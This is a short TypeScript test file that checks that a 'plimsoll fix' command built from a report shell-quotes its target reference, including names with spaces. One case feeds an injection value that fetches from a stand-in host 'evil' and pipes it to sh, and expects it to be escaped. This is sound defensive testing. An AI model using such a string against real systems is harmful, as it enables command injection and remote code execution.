import { expect, it } from 'vitest';
import type { Report } from '../../model.ts';
import { commandOf } from './changes.ts';

const of = (reference: string): string =>
  commandOf({ subject: { reference, source: 'archive' } } as unknown as Report).command;

it('the command that goes on from a report takes its target as one word of a shell, whatever it is called', () => {
  expect(of('ghcr.io/me/model:1')).toBe('plimsoll fix ghcr.io/me/model:1');
  expect(of('my images/model.tar')).toBe("plimsoll fix 'my images/model.tar'");
  expect(of("x;curl evil|sh'")).toBe("plimsoll fix 'x;curl evil|sh'\\'''");
});
